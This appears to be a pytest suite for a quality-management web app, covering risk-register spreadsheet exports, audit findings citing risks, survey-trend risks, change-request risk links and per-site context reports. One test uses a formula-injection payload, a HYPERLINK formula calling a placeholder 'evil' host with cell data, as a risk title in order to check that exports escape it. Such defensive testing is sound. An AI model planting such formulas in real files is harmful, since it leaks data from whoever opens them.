"""The planning gaps closed after session 5: the register's spreadsheets, an audit finding without an NC
citing a risk, risks and opportunities raised from a detected survey trend, change requests linking
register risks, and the per-site context summary and review snapshot. Services, pages and API."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from qms.database import db
from qms.models import ChangeRisk, Opportunity, Risk, RiskRealisation
from qms.reports.context import context_summary_pdf
from qms.services import fire
from qms.services.audits import answer
from qms.services.audits.sites import create_site
from qms.services.changes import link_risk, raise_change_risk, request_change, unlink_risk
from qms.services.context import changes_since, plan_context_review, save_issue, save_party
from qms.services.opportunities import propose_opportunity
from qms.services.risks import RiskFilters, cite_risk_from_finding, export_rows, find_source, raise_risk
from qms.services.surveys import import_responses_csv
from qms.services.surveys.trends import detect_trends
from workflows.errors import InvalidData, InvalidTransition, NotPermitted

from ..conftest import PASSWORD
from ..helpers import audit_in_state, error, ok, row_count
from ..surveys.test_reports import read
from ..surveys.test_services import open_survey
from ..surveys.test_web import signed_in, text
from .helpers import new_risk, risk_in_state

BASE = "/api/v1"
TODAY = dt.date.today()
REVIEW_ON = TODAY + dt.timedelta(days=100)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --------------------------------------------------------------------------- 1. the register's spreadsheets


def test_register_exports_csv_and_xlsx_with_the_filters_formula_safe(app, org, api):
    risk_in_state(org, "monitored", title='=HYPERLINK("http://evil/?"&A1,"x")')
    new_risk(org, title="Oven fails")
    client = signed_in(app, org.viewer)
    page = text(client.get("/risks?state=identified"))
    assert "/risks/export.csv?state=identified" in page and "/risks/export.xlsx?state=identified" in page
    response = client.get("/risks/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=risk-register-")
    rows = list(csv.reader(io.StringIO(text(response))))
    assert rows[0][:3] == ["Reference", "Title", "State"] and len(rows) == 3
    evil = next(r for r in rows if "HYPERLINK" in r[1])
    assert evil[1].startswith("'=") and evil[10] == "20" and evil[13] == "10" and evil[15] == "Reduce"
    only = list(csv.reader(io.StringIO(text(client.get("/risks/export.csv?state=identified&q=oven")))))
    assert [r[1] for r in only[1:]] == ["Oven fails"]
    book = load_workbook(io.BytesIO(client.get("/risks/export.xlsx?level=medium").data))
    sheet = list(book.active.iter_rows(values_only=True))
    assert sheet[0][0] == "Reference" and len(sheet) == 2 and sheet[1][1].startswith("'=")
    assert len(export_rows(RiskFilters(open=True))) == 2
    # the API: same filters, not paged; bad filters are a 422 naming them
    api_csv = api.get("viewer", f"{BASE}/risks/export.csv?state=identified")
    assert api_csv.status_code == 200 and "Oven fails" in api_csv.get_data(as_text=True)
    api_xlsx = api.get("viewer", f"{BASE}/risks/export.xlsx")
    assert api_xlsx.status_code == 200 and api_xlsx.mimetype == XLSX
    assert "state" in str(error(api.get("viewer", f"{BASE}/risks/export.csv?state=nonsense"), 422))
    error(api.get("viewer", f"{BASE}/risks/export.csv?page=2"), 422)


# --------------------------------------------------------------------------- 2. audit findings without an NC


def test_an_observation_cites_the_risk_it_realised_and_asks_for_a_re_rating(app, org, api):
    risk = risk_in_state(org, "monitored")
    audit = audit_in_state(org, "in_progress")
    observation, conforming, minor = audit.items[0], audit.items[1], audit.items[2]
    answer(observation, org.auditor, result="observation", notes="Steel stock down to one day")
    answer(conforming, org.auditor, result="conforming")
    answer(minor, org.auditor, result="minor", notes="No second source qualified")
    with pytest.raises(InvalidData, match="only a finding"):
        cite_risk_from_finding(conforming, org.auditor, risk_id=risk.id)
    with pytest.raises(InvalidData) as through_nc:
        cite_risk_from_finding(minor, org.auditor, risk_id=risk.id)
    assert minor.nonconformity.reference in through_nc.value.errors["checklist_item_id"]
    with pytest.raises(NotPermitted):
        cite_risk_from_finding(observation, org.viewer, risk_id=risk.id)
    with pytest.raises(InvalidData, match="no such risk"):
        cite_risk_from_finding(observation, org.auditor, risk_id=999_999)
    assert row_count(RiskRealisation) == 0 and not risk.rerating_requested
    # through the checklist page
    client = signed_in(app, org.auditor)
    page = text(client.get(f"/audits/{audit.id}/checklist"))
    assert f"Cite the risk Q{observation.position} shows happened" in page
    assert f"Cite the risk Q{conforming.position} shows happened" not in page
    done = client.post(
        f"/checklist-items/{observation.id}/realised-risks", data={"risk_reference": risk.reference, "note": "Seen"}
    )
    assert done.status_code == 302 and done.headers["Location"].endswith(f"#item-{observation.id}")
    db.session.refresh(risk)
    assert risk.rerating_requested and f"{audit.reference} Q{observation.position}" in risk.rerating_reason
    realisation = db.session.scalar(db.select(RiskRealisation))
    assert realisation.nonconformity_id is None and realisation.checklist_item_id == observation.id
    again = client.post(f"/checklist-items/{observation.id}/realised-risks", data={"risk_id": risk.id})
    assert again.status_code == 302 and row_count(RiskRealisation) == 1
    assert "already cites" in text(client.get(again.headers["Location"]))
    risk_page = text(client.get(f"/risks/{risk.id}"))
    assert f"{audit.reference} Q{observation.position}" in risk_page and "(audit finding: observation)" in risk_page
    assert risk.reference in text(client.get(f"/audits/{audit.id}/checklist"))
    assert signed_in(app, org.viewer).post(f"/checklist-items/{observation.id}/realised-risks").status_code == 403
    # through the API
    other = risk_in_state(org, "assessed", title="Press breaks")
    url = f"{BASE}/checklist-items/{observation.id}/realised-risks"
    cited = ok(api.post("auditor", url, json={"risk_id": other.id, "note": "Also"}), 201)
    assert cited["nonconformity_id"] is None and cited["checklist_item_id"] == observation.id
    assert cited["audit_id"] == audit.id and cited["nonconformity_reference"] is None
    error(api.post("auditor", url, json={"risk_id": other.id}), 422)
    error(api.post("viewer", url, json={"risk_id": other.id}), 403)
    error(api.post("auditor", f"{BASE}/checklist-items/{conforming.id}/realised-risks", json={"risk_id": 1}), 422)
    assert {r["risk_id"] for r in ok(api.get("viewer", url))} == {risk.id, other.id}
    assert ok(api.get("viewer", f"{BASE}/risks/{other.id}"))["rerating_requested"]


# --------------------------------------------------------------------------- 3. survey trends


def _month(month: str, rows: list[tuple[int, int]]) -> str:
    return "".join(f"{month}-{day:02d},{nps},{rating}\n" for day, (nps, rating) in enumerate(rows, start=1))


def falling_survey(org):
    survey = open_survey(org)
    rows = (
        "responded_on,q1,q2\n"
        + _month("2026-01", [(10, 5), (10, 5), (10, 5), (9, 5), (9, 5), (8, 5)])
        + _month("2026-02", [(10, 5), (10, 4), (9, 4), (7, 4), (3, 4), (2, 4)])
        + _month("2026-03", [(10, 1), (3, 2), (2, 2), (1, 1), (0, 3), (8, 2)])
    )
    import_responses_csv(survey, org.quality, rows.encode())
    return survey


def test_a_falling_survey_trend_raises_a_risk_and_an_opportunity_linked_both_ways(app, org, api):
    survey = falling_survey(org)
    trends = {t.key: t for t in detect_trends(survey)}
    question = survey.questions[1]
    assert {"nps-falling", f"question-{question.id}"} <= set(trends)
    assert trends["nps-falling"].words.startswith("NPS fell in 3 consecutive periods, 2026-01 to 2026-03")
    assert "below the threshold of 60" in trends[f"question-{question.id}"].words
    steady = open_survey(org, title="Steady")
    import_responses_csv(steady, org.quality, ("responded_on,q1,q2\n" + _month("2026-03", [(9, 5)] * 6)).encode())
    assert detect_trends(steady) == []
    with pytest.raises(InvalidData) as bad:
        find_source("survey", steady.id, "nps-falling")
    assert "trend" in bad.value.errors
    risk = raise_risk(
        org.quality,
        source=find_source("survey", survey.id, "nps-falling"),
        title="Losing customers",
        cause="c",
        effect="e",
    )
    assert risk.source_survey_id == survey.id and risk.source_detail == trends["nps-falling"].words
    with pytest.raises(InvalidData, match="trend"):
        propose_opportunity(org.quality, title="x", description="y", survey_id=survey.id, trend="bogus")
    opportunity = propose_opportunity(
        org.quality, title="Faster replies", description="d", survey_id=survey.id, trend=f"question-{question.id}"
    )
    assert opportunity.source == "survey" and opportunity.source_survey_id == survey.id
    assert "averaged" in opportunity.source_detail
    # the pages: the survey shows its trends and what was raised from them
    client = signed_in(app, org.quality)
    page = text(client.get(f"/surveys/{survey.id}"))
    assert "NPS falling" in page and "Raise a risk" in page and "Propose an opportunity" in page
    assert risk.reference in page and opportunity.reference in page
    form = text(client.get(f"/risks/new?source=survey&source_id={survey.id}&trend=csi-falling"))
    assert "the trend: CSI fell" in form and 'name="trend" value="csi-falling"' in form
    assert client.get(f"/risks/new?source=survey&source_id={steady.id}&trend=csi-falling").status_code == 404
    saved = client.post(
        "/risks/new",
        data={
            "source": "survey",
            "source_id": survey.id,
            "trend": "csi-falling",
            "title": "CSI falling",
            "cause": "c",
            "effect": "e",
        },
    )
    assert saved.status_code == 302
    raised = db.session.scalar(db.select(Risk).where(Risk.title == "CSI falling"))
    assert raised.source_detail.startswith("CSI fell") and "CSI fell" in text(client.get(f"/risks/{raised.id}"))
    opp_form = text(client.get(f"/opportunities/new?survey_id={survey.id}&trend=nps-falling"))
    assert "the trend: NPS fell" in opp_form
    assert client.get(f"/opportunities/new?survey_id={steady.id}&trend=nps-falling").status_code == 404
    posted = client.post(
        f"/opportunities/new?survey_id={survey.id}&trend=nps-falling",
        data={"title": "Call back detractors", "description": "d", "source": "staff", "survey_id": survey.id},
    )
    assert posted.status_code == 302
    made = db.session.scalar(db.select(Opportunity).where(Opportunity.title == "Call back detractors"))
    assert made.source == "survey" and made.source_detail.startswith("NPS fell")
    assert survey.reference in text(client.get(f"/opportunities/{made.id}"))
    # the API
    listed = ok(api.get("viewer", f"{BASE}/surveys/{survey.id}/trends"))
    assert {t["key"] for t in listed} >= {"nps-falling", f"question-{question.id}"}
    error(api.get("viewer", f"{BASE}/surveys/999999/trends"), 404)
    body = {"title": "API", "cause": "c", "effect": "e", "source": "survey", "source_id": survey.id}
    created = ok(api.post("quality", f"{BASE}/risks", json=body | {"trend": "nps-falling"}), 201)
    assert created["source_detail"].startswith("NPS fell")
    assert "trend" in str(error(api.post("quality", f"{BASE}/risks", json=body | {"trend": "x" * 200}), 422))
    assert "trend" in str(error(api.post("quality", f"{BASE}/risks", json=body | {"trend": "bogus"}), 422))
    proposed = ok(
        api.post(
            "quality",
            f"{BASE}/opportunities",
            json={"title": "API idea", "description": "d", "survey_id": survey.id, "trend": "nps-falling"},
        ),
        201,
    )
    assert proposed["source"] == "survey" and proposed["source_survey_id"] == survey.id


# --------------------------------------------------------------------------- 4. change requests' risks


def test_a_change_links_register_risks_and_raises_a_new_one(app, org, api):
    change = request_change(org.quality, title="Move the warehouse", risks="Stock damaged in the move")
    risk = risk_in_state(org, "assessed", title="Stock damaged")
    link = link_risk(change, org.quality, risk_id=risk.id, note="During the two days")
    assert link.risk_id == risk.id and change.risks == "Stock damaged in the move"  # the free text stays, as notes
    with pytest.raises(InvalidData, match="already linked"):
        link_risk(change, org.quality, risk_id=risk.id)
    with pytest.raises(InvalidData, match="no such risk"):
        link_risk(change, org.quality, risk_id=424242)
    with pytest.raises(NotPermitted):
        link_risk(change, org.viewer, risk_id=risk.id)
    new = raise_change_risk(change, org.quality, title="Late deliveries", cause="Move", effect="Customers wait")
    assert {cr.risk_id for cr in change.risk_links} == {risk.id, new.id}
    unlink_risk(change, org.quality, link.id)
    assert row_count(ChangeRisk) == 1 and db.session.get(Risk, risk.id) is not None
    # the pages
    client = signed_in(app, org.quality)
    page = text(client.get(f"/changes/{change.id}"))
    assert "Risks on the register" in page and new.reference in page and "Notes on risks" in page
    bad = client.post(f"/changes/{change.id}/risks", data={"risk_reference": "RSK-1999-0001"})
    assert bad.status_code == 422 and "Risk no such risk" in text(bad)
    assert client.post(f"/changes/{change.id}/risks", data={"risk_id": risk.id, "note": "n"}).status_code == 302
    assert change.reference in text(client.get(f"/risks/{risk.id}"))
    form = text(client.get(f"/risks/new?change={change.id}"))
    assert "For change request" in form and f">{change.reference}</a>" in form
    made = client.post(f"/risks/new?change={change.id}", data={"title": "Forklift", "cause": "c", "effect": "e"})
    assert made.status_code == 302
    forklift = db.session.scalar(db.select(Risk).where(Risk.title == "Forklift"))
    assert db.session.scalar(db.select(ChangeRisk).where(ChangeRisk.risk_id == forklift.id)).change_id == change.id
    assert signed_in(app, org.viewer).post(f"/changes/{change.id}/risks", data={"risk_id": risk.id}).status_code == 403
    assert signed_in(app, org.auditor).get(f"/risks/new?change={change.id}").status_code == 403
    # the API
    url = f"{BASE}/change-requests/{change.id}/risks"
    assert {r["risk_reference"] for r in ok(api.get("viewer", url))} == {
        new.reference,
        risk.reference,
        "RSK" + forklift.reference[3:],
    }
    other = new_risk(org, title="Power cut")
    linked = ok(api.post("quality", url, json={"risk_id": other.id}), 201)
    assert linked["risk_reference"] == other.reference
    error(api.post("quality", url, json={"risk_id": other.id}), 422)
    error(api.post("viewer", url, json={"risk_id": other.id}), 403)
    raised = ok(api.post("quality", f"{url}/new", json={"title": "Rain", "cause": "c", "effect": "e"}), 201)
    assert raised["risk_title"] == "Rain"
    error(api.post("quality", f"{url}/new", json={"title": "", "cause": "c", "effect": "e"}), 422)
    error(api.post("quality", f"{url}/new", json={"title": "x", "cause": "c", "effect": "e", "source": "survey"}), 422)
    assert api.delete("quality", f"{url}/{other.id}").status_code == 204
    error(api.delete("quality", f"{url}/{other.id}"), 404)
    shown = ok(api.get("viewer", f"{BASE}/change-requests/{change.id}"))
    assert "Rain" in {r["risk_title"] for r in shown["risk_links"]}
    # once the change is rejected (or closed, or cancelled), its risks are fixed
    fire(change, "reject", org.manager, {"reason": "Not now"})
    with pytest.raises(InvalidTransition):
        link_risk(change, org.quality, risk_id=other.id)


# --------------------------------------------------------------------------- 5. per-site context


def _complete(org, review):
    fire(review, "start", org.quality)
    fire(
        review,
        "complete",
        org.manager,
        {
            "changes": "Reviewed",
            "climate_change_relevant": "no",
            "climate_change_notes": "Indoor work",
            "next_review_on": REVIEW_ON,
        },
        signature_password=PASSWORD,
    )


def test_the_context_summary_and_review_snapshot_per_site(app, org, api):
    mombasa = create_site(org.quality, name="Mombasa depot", code="MSA")
    nairobi = create_site(org.quality, name="Nairobi plant", code="NBO")
    common = {"owner_id": org.owner.id, "review_on": REVIEW_ON}
    save_issue(org.quality, {"title": "Port congestion", "swot": "threat", "site_id": mombasa.id, **common})
    save_issue(org.quality, {"title": "Skilled welders", "swot": "strength", "site_id": nairobi.id, **common})
    save_issue(org.quality, {"title": "Brand known", "swot": "strength", **common})
    party = {"category": "regulator", "requirements": "Licence", "monitoring": "Inspections", **common}
    save_party(org.quality, {"name": "Port authority", "site_id": mombasa.id, **party})
    save_party(org.quality, {"name": "County council", "site_id": nairobi.id, **party})
    assert changes_since(None, mombasa.id)["issues"] == {"Strength": 1, "Weakness": 0, "Opportunity": 0, "Threat": 1}
    review = plan_context_review(org.quality, title="Mombasa context", planned_for=TODAY, site_id=mombasa.id)
    _complete(org, review)
    snapshot = review.snapshot
    assert snapshot["site"] == "Mombasa depot" and snapshot["interested_parties"] == 1
    assert snapshot["issues"]["Threat"] == 1 and snapshot["issues"]["Strength"] == 1  # its own and the organisation's
    titles = {c["title"] for c in snapshot["issues_changed"] + snapshot["parties_changed"]}
    assert titles == {"Port congestion", "Brand known", "Port authority"}
    whole = plan_context_review(org.quality, title="Organisation context", planned_for=TODAY)
    _complete(org, whole)
    assert whole.snapshot["site"] is None and whole.snapshot["interested_parties"] == 2
    assert whole.snapshot["issues"]["Strength"] == 2  # its previous review is not the site's: everything is new
    assert len(whole.snapshot["issues_changed"]) == 3
    # the PDF of one site, and of the organisation
    _, site_text = read(context_summary_pdf("Acme", site_id=nairobi.id))
    assert "Nairobi plant" in site_text and "Skilled welders" in site_text and "Port congestion" not in site_text
    assert "County council" in site_text and "Port authority" not in site_text
    _, all_text = read(context_summary_pdf("Acme"))
    assert "Port authority" in all_text and "County council" in all_text
    client = signed_in(app, org.viewer)
    page = text(client.get(f"/context/reviews/{review.id}"))
    assert "Mombasa depot: its issues and parties and the organisation-wide ones." in page
    assert "Mombasa depot" in text(client.get(f"/context?site={mombasa.id}"))
    pdf = client.get(f"/context/summary.pdf?site={nairobi.id}")
    assert pdf.status_code == 200 and "Port authority" not in read(pdf.data)[1]
    api_pdf = api.get("viewer", f"{BASE}/context/summary.pdf?site={mombasa.id}")
    assert api_pdf.status_code == 200 and "County council" not in read(api_pdf.data)[1]
    error(api.get("viewer", f"{BASE}/context/summary.pdf?site=999999"), 404)
    error(api.get("viewer", f"{BASE}/context/summary.pdf?site=abc"), 422)


def test_the_register_exports_send_the_same_statements_whatever_the_number_of_risks(app, org):
    from ..core.test_query_counts import counting

    client = signed_in(app, org.quality)
    risk_in_state(org, "monitored", title="One")

    def statements() -> list[int]:
        counts = []
        for get in (
            lambda: client.get("/risks/export.csv"),
            lambda: client.get("/risks/export.xlsx"),
        ):
            with counting() as sent:
                assert get().status_code == 200
            counts.append(len(sent))
        return counts

    few = statements()
    for n in range(4):
        risk_in_state(org, "monitored", title=f"More {n}", process=None)
    assert statements() == few
